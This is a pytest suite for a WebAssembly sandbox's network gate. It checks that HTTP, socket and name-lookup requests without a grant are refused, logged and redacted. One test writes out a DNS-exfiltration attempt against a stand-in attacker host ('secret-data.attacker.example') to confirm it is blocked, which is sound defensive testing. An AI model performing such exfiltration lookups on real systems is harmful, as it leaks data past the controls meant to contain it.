"""The network gate, attacked from inside the sandbox.

Two probes: `http-probe` (JavaScript, StarlingMonkey `fetch` over
`wasi:http`) and `netprobe` (Python, raw `wasi:sockets` and name lookups).
Servers run on loopback, started by the tests; each refused access must be
refused before anything reaches the server, reported with the reason, and
must not stop the component from working on its next call.
"""

from __future__ import annotations

import http.server
import json
import socket
import socketserver
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from outcomes import Outcome


def rule(
    host: str | None = None,
    *,
    cidr: str | None = None,
    ports: tuple[int, ...] = (),
    schemes: tuple[str, ...] = ("http", "https"),
    transports: tuple[str, ...] = ("tcp",),
    origin: str = "test rule",
) -> dict[str, Any]:
    return {
        "host": host,
        "cidr": cidr,
        "ports": list(ports),
        "schemes": list(schemes),
        "transports": list(transports),
        "origin": origin,
    }


Runner = Callable[..., Outcome]


@pytest.fixture
def http_probe(compiled: Callable[[str], Any]) -> Callable[..., Outcome]:
    def fetch(url: str, allow: list[Any] = (), deny: list[Any] = (), method: str = "GET") -> Outcome:  # type: ignore[assignment]
        policy = json.dumps({"network": {"allow": list(allow), "deny": list(deny)}})
        args = json.dumps({"url": url, "method": method})
        return Outcome(compiled("http-probe").start(None, "fetch-url", args, policy).finish())

    return fetch


@pytest.fixture
def netprobe(compiled: Callable[[str], Any]) -> Callable[..., Outcome]:
    def run(export: str, allow: list[Any] = (), deny: list[Any] = (), **args: Any) -> Outcome:  # type: ignore[assignment]
        policy = json.dumps({"network": {"allow": list(allow), "deny": list(deny)}})
        return Outcome(compiled("netprobe").start(None, export, json.dumps(args), policy).finish())

    return run


class Web:
    """A loopback HTTP server that counts the requests it answers."""

    def __init__(self) -> None:
        hits: list[str] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                body = f"hello {self.path}".encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.hits = hits
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def web() -> Iterator[Web]:
    w = Web()
    yield w
    w.close()


@pytest.fixture(autouse=True)
def _clear_hits(web: Web) -> None:
    web.hits.clear()


class Echo(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


@pytest.fixture(scope="module")
def tcp_echo() -> Iterator[int]:
    class Handler(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            data = self.request.recv(4096)
            self.request.sendall(b"echo:" + data)

    server = Echo(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def udp_echo() -> Iterator[int]:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    stop = threading.Event()

    def serve() -> None:
        sock.settimeout(0.2)
        while not stop.is_set():
            try:
                data, peer = sock.recvfrom(4096)
            except TimeoutError:
                continue
            sock.sendto(b"udp:" + data, peer)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield sock.getsockname()[1]
    stop.set()
    thread.join()
    sock.close()


# --- HTTP (wasi:http) ------------------------------------------------------------------------------


def test_http_without_grant_is_refused_before_the_server(http_probe: Runner, web: Web) -> None:
    out = http_probe(f"http://127.0.0.1:{web.port}/x")
    assert out.refused and "NetworkError" in out.value["err"]
    assert out.denials[0] == {
        "kind": "network",
        "resource": f"http://127.0.0.1:{web.port}/x",
        "resolved": None,
        "access": "http",
        "reason": "no rule grants this host",
        "rule": None,
    }
    assert web.hits == []


def test_http_with_grant_reaches_the_server(http_probe: Runner, web: Web) -> None:
    out = http_probe(f"http://127.0.0.1:{web.port}/ok", [rule("127.0.0.1", ports=(web.port,))])
    assert out.value == {"ok": "200 hello /ok"} and out.denials == []
    assert web.hits == ["/ok"]
    # Where it went, with the bytes on the wire each way (request line and
    # headers out; status, headers and the 9-byte body back).
    [egress] = out.egress
    assert {k: egress[k] for k in ("transport", "host", "port", "connections")} == {
        "transport": "http",
        "host": "127.0.0.1",
        "port": web.port,
        "connections": 1,
    }
    assert 40 < egress["sent"] < 2000 and len(b"hello /ok") + 40 < egress["received"] < 2000, egress


def test_egress_counts_every_request_and_stays_empty_when_refused(http_probe: Runner, web: Web) -> None:
    refused = http_probe(f"http://127.0.0.1:{web.port}/no")
    assert refused.refused and refused.egress == [] and web.hits == []


@pytest.mark.parametrize(
    ("url", "granted", "reason"),
    [
        (
            "http://127.0.0.1:{port}/",
            rule("127.0.0.1", ports=(1,)),
            "the host is granted, but not on port {port}",
        ),
        (
            "http://127.0.0.1:{port}/",
            rule("127.0.0.1", ports=(), schemes=("http",)),
            "the host is granted, but not on port {port}",
        ),
        (
            "http://127.0.0.1:{port}/",
            rule("127.0.0.1", ports=(0,), schemes=("https",)),
            "the host is granted, but not for http",
        ),
        ("http://127.0.0.2:{port}/", rule("127.0.0.1", ports=(0,)), "no rule grants this host"),
        ("http://[::1]:{port}/", rule("127.0.0.1", ports=(0,)), "no rule grants this host"),
    ],
)
def test_http_port_scheme_and_host_must_all_match(
    http_probe: Runner, web: Web, url: str, granted: dict[str, Any], reason: str
) -> None:
    if granted["ports"] == [0]:
        granted = {**granted, "ports": [web.port]}
    out = http_probe(url.format(port=web.port), [granted])
    assert out.refused and out.reason == reason.format(port=web.port)
    assert web.hits == []


def test_http_name_resolving_to_loopback_is_refused(http_probe: Runner, web: Web) -> None:
    """DNS-rebinding defence: an allowed *name* that resolves to loopback is refused
    unless the policy names the address itself."""
    named = rule("localhost", ports=(web.port,))
    out = http_probe(f"http://localhost:{web.port}/", [named])
    assert out.refused
    assert out.reason.startswith("localhost resolves to 127.0.0.1, a loopback/private/link-local address")
    assert web.hits == []
    out = http_probe(f"http://localhost:{web.port}/", [named, rule(cidr="127.0.0.0/8", ports=(web.port,))])
    assert out.value == {"ok": "200 hello /"}


def test_http_deny_rule_wins(http_probe: Runner, web: Web) -> None:
    out = http_probe(
        f"http://127.0.0.1:{web.port}/",
        [rule(cidr="127.0.0.0/8", ports=(web.port,))],
        [rule("127.0.0.1", origin="permissions.network.deny[0]")],
    )
    assert out.refused and out.denials[0]["rule"] == "permissions.network.deny[0]"
    assert web.hits == []


def test_http_wildcard_matches_subdomains_only(http_probe: Runner) -> None:
    wildcard = [rule("*.example.com")]
    apex = http_probe("http://example.com/", wildcard)
    assert apex.refused and apex.reason == "no rule grants this host"
    sub = http_probe("http://api.example.com/", wildcard)
    # Offline here: the rule matched, so the gate looked the name up.
    assert sub.reason != "no rule grants this host"


def test_http_denial_leaves_out_query_and_credentials(http_probe: Runner, web: Web) -> None:
    out = http_probe(f"http://user:pw@127.0.0.1:{web.port}/p?api_key=SECRET")
    assert out.refused
    assert "SECRET" not in json.dumps(out.denials) and "pw" not in json.dumps(out.denials)


# --- failures are not denials --------------------------------------------------------------------

UNRESOLVABLE = "no-such-host.invalid"  # .invalid never resolves (RFC 6761)


def test_a_granted_name_that_does_not_resolve_is_a_failure_not_a_denial(http_probe: Runner) -> None:
    """The guest gets a DNS error (not "denied"), the outcome a failure that
    says the name did not resolve, and nothing is recorded as a denial."""
    out = http_probe(f"http://{UNRESOLVABLE}/", [rule(UNRESOLVABLE)])
    assert out.status == "err" and out.denials == []
    assert [(f["kind"], f["access"], f["resource"]) for f in out.failures] == [
        ("network", "http", f"http://{UNRESOLVABLE}:80/")
    ]
    assert out.failures[0]["reason"].startswith("the name does not resolve")


def test_a_refused_connection_is_a_failure_not_a_denial(http_probe: Runner) -> None:
    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))
    port = closed.getsockname()[1]
    closed.close()  # nothing listens there now
    out = http_probe(f"http://127.0.0.1:{port}/", [rule("127.0.0.1", ports=(port,))])
    assert out.status == "err" and out.denials == []
    assert out.failures and f"cannot connect to 127.0.0.1:{port}" in out.failures[0]["reason"]


def test_a_lookup_of_a_granted_name_that_does_not_resolve_is_a_failure(netprobe: Runner) -> None:
    out = netprobe("resolve", [rule(UNRESOLVABLE)], host=UNRESOLVABLE)
    assert out.status == "err" and out.denials == []
    assert out.failures[0]["access"] == "name lookup"
    assert "PermissionError" not in out.value["err"]  # the guest was not told "denied"


# --- raw sockets (wasi:sockets) --------------------------------------------------------------------


def test_tcp_without_grant_is_refused(netprobe: Runner, tcp_echo: int) -> None:
    out = netprobe("tcp-exchange", host="127.0.0.1", port=tcp_echo, payload="hi")
    assert out.refused and "PermissionError" in out.value["err"]
    assert out.denials[0]["access"] == "tcp connect"
    assert out.denials[0]["resource"] == f"127.0.0.1:{tcp_echo}"


def test_tcp_with_host_grant_reaches_that_port_only(netprobe: Runner, tcp_echo: int) -> None:
    granted = [rule("127.0.0.1", ports=(tcp_echo,))]
    out = netprobe("tcp-exchange", granted, host="127.0.0.1", port=tcp_echo, payload="hi")
    assert out.value == {"ok": "echo:hi"}
    # A raw socket's connection is counted, and the bytes its streams carried.
    assert out.egress == [
        {
            "transport": "tcp",
            "host": "127.0.0.1",
            "port": tcp_echo,
            "connections": 1,
            "sent": len("hi"),
            "received": len("echo:hi"),
        }
    ]
    other = netprobe("tcp-exchange", granted, host="127.0.0.1", port=tcp_echo + 1, payload="hi")
    assert other.refused


def test_raw_tcp_is_no_wider_than_http(netprobe: Runner, tcp_echo: int) -> None:
    """A grant for HTTP(S) only (a scheme-qualified host) opens no raw socket."""
    http_only = [rule("127.0.0.1", ports=(tcp_echo,), schemes=("https",), transports=())]
    out = netprobe("tcp-exchange", http_only, host="127.0.0.1", port=tcp_echo, payload="hi")
    assert out.refused and "only an IP/CIDR rule for it grants raw tcp" in out.reason


def test_lookup_of_ungranted_name_is_refused(netprobe: Runner) -> None:
    """Names are looked up only when a rule names them: no DNS exfiltration."""
    out = netprobe("resolve", host="secret-data.attacker.example")
    assert out.refused and out.denials[0]["access"] == "name lookup"


def test_lookup_to_loopback_is_refused_then_allowed_explicitly(netprobe: Runner, tcp_echo: int) -> None:
    named = rule("localhost", ports=(tcp_echo,))
    out = netprobe("tcp-exchange", [named], host="localhost", port=tcp_echo, payload="x")
    assert out.refused and "loopback" in out.reason
    both = [named, rule(cidr="127.0.0.1/32", ports=(tcp_echo,), schemes=(), transports=("tcp",))]
    assert netprobe("resolve", both, host="localhost").value == {"ok": ["127.0.0.1"]}
    assert netprobe("tcp-exchange", both, host="localhost", port=tcp_echo, payload="x").value == {
        "ok": "echo:x"
    }


def test_udp_needs_its_own_grant(netprobe: Runner, udp_echo: int) -> None:
    tcp_only = [rule("127.0.0.1", ports=(udp_echo,))]
    out = netprobe("udp-exchange", tcp_only, host="127.0.0.1", port=udp_echo, payload="d")
    assert out.refused and out.denials[0]["access"] == "udp send"
    udp = [rule("127.0.0.1", ports=(udp_echo,), schemes=(), transports=("udp",))]
    assert netprobe("udp-exchange", udp, host="127.0.0.1", port=udp_echo, payload="d").value == {
        "ok": "udp:d"
    }


def test_listening_is_refused(netprobe: Runner) -> None:
    out = netprobe("tcp-listen", [rule(cidr="0.0.0.0/0", schemes=(), transports=("tcp",))], port=0)
    assert out.refused and out.denials[-1]["access"] in ("listen", "bind")


def test_socket_deny_rule_wins(netprobe: Runner, tcp_echo: int) -> None:
    out = netprobe(
        "tcp-exchange",
        [rule(cidr="127.0.0.0/8", schemes=(), transports=("tcp",))],
        [rule(cidr="127.0.0.1/32", origin="permissions.network.deny[0]")],
        host="127.0.0.1",
        port=tcp_echo,
        payload="x",
    )
    assert out.refused and out.denials[0]["rule"] == "permissions.network.deny[0]"


def test_component_works_after_refusals(
    netprobe: Runner, http_probe: Runner, tcp_echo: int, web: Web
) -> None:
    for _ in range(3):
        assert netprobe("tcp-exchange", host="127.0.0.1", port=tcp_echo, payload="x").refused
        assert http_probe(f"http://127.0.0.1:{web.port}/").refused
    granted = [rule("127.0.0.1", ports=(tcp_echo, web.port))]
    assert netprobe("tcp-exchange", granted, host="127.0.0.1", port=tcp_echo, payload="x").ok
    assert http_probe(f"http://127.0.0.1:{web.port}/", granted).ok


def test_https_to_a_granted_host_with_a_private_ca(
    engine: Any,
    compiled: Callable[[str], Any],
    compiled_cache: Path,
    components: dict[str, Path],
    https_server: Any,
) -> None:
    """Guest HTTPS is verified (TLS by the gate, to the approved address): an
    unknown CA fails the handshake; the engine's configured CA makes it work."""
    from wassette import _engine

    https_server.files["/hello"] = b"over tls"
    port = int(https_server.url.rsplit(":", 1)[1])
    policy = json.dumps({"network": {"allow": [rule("127.0.0.1", ports=(port,))], "deny": []}})
    args = json.dumps({"url": f"{https_server.url}/hello", "method": "GET"})
    wasm = components["http-probe"].read_bytes()

    out = Outcome(compiled("http-probe").start(None, "fetch-url", args, policy).finish())
    assert out.status == "err" and out.denials == []  # allowed, but the certificate is not trusted

    private_ca = _engine.Engine(str(compiled_cache), "auto", https_server.ca.read_bytes()).compile(wasm)
    out = Outcome(private_ca.start(None, "fetch-url", args, policy).finish())
    assert out.value == {"ok": "200 over tls"}


def test_engine_rejects_a_ca_bundle_without_certificates() -> None:
    from wassette import _engine

    with pytest.raises(_engine.EngineError, match="CA bundle: no PEM certificate found"):
        _engine.Engine(None, "auto", b"not a certificate")


def test_configured_ca_bundle_reaches_guest_https(
    cli: Any, components: dict[str, Path], https_server: Any
) -> None:
    """`WASSETTE_CA_BUNDLE` (or `ca_bundle` in config.toml) is trusted by guests' HTTPS, as by the loader."""
    https_server.files["/cli"] = b"trusted"
    host = https_server.url.removeprefix("https://")
    assert cli("component", "load", components["http-probe"].as_uri()).returncode == 0
    assert cli("permission", "grant", "network", "http-probe", f"https://{host}").returncode == 0
    args = json.dumps({"url": f"{https_server.url}/cli", "method": "GET"})
    untrusted = cli("tool", "invoke", "fetch-url", "--args", args)
    assert untrusted.returncode == 1 and "NetworkError" in untrusted.stdout
    cli.env["WASSETTE_CA_BUNDLE"] = str(https_server.ca)
    trusted = cli("tool", "invoke", "fetch-url", "--args", args)
    assert trusted.returncode == 0 and json.loads(trusted.stdout) == {"result": {"ok": "200 trusted"}}
